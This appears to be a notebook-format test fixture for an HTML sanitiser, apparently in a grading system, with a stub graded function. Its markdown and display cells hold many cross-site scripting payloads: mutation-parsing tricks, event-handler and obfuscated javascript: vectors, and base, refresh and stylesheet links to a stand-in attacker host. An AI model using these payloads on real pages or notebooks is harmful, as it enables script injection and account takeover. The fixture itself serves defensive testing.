"""HTML that browsers read otherwise than a sanitiser: mutations, comments, raw text, other documents' tags."""

# %% [markdown]
# <!--><img src=x onerror=window.OWNED=1>--> <noscript><p title="</noscript><img src=x onerror=OWNED>"></noscript> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=OWNED&gt;"> <xmp><p title="</xmp><img src=x onerror=OWNED>"> <base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href="//evil.example"> <a href="java&Tab;script:OWNED">x</a> <a href="&#1;javascript:OWNED">y</a> <svg><a xlink:href="javascript:OWNED"><text>z</text></a></svg> <img src="data:image/svg+xml;base64,T1dORUQ="> <details open ontoggle=OWNED><summary>s</summary></details> <form id=formgrader><input name=action></form>
# %% first
from IPython.display import HTML, display
display(HTML("<p style='position:fixed;top:0;margin:-500px;width:expression(OWNED);background:url(//evil.example)' id=notebook name=cookie>x</p><template><script>OWNED</script></template><a href='//evil.example'>x</a><style>@import '//evil.example';</style><textarea></textarea><title>OWNED</title>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "OWNED"}, "application/javascript": "OWNED", "application/vnd.vega.v5+json": {"usermeta": "OWNED"}, "text/html": ["<script>OWNED", "</script>"], "image/svg+xml": "<svg onload=OWNED>"}, raw=True)
# %% answer="affine"
def affine(*args):
    return 0
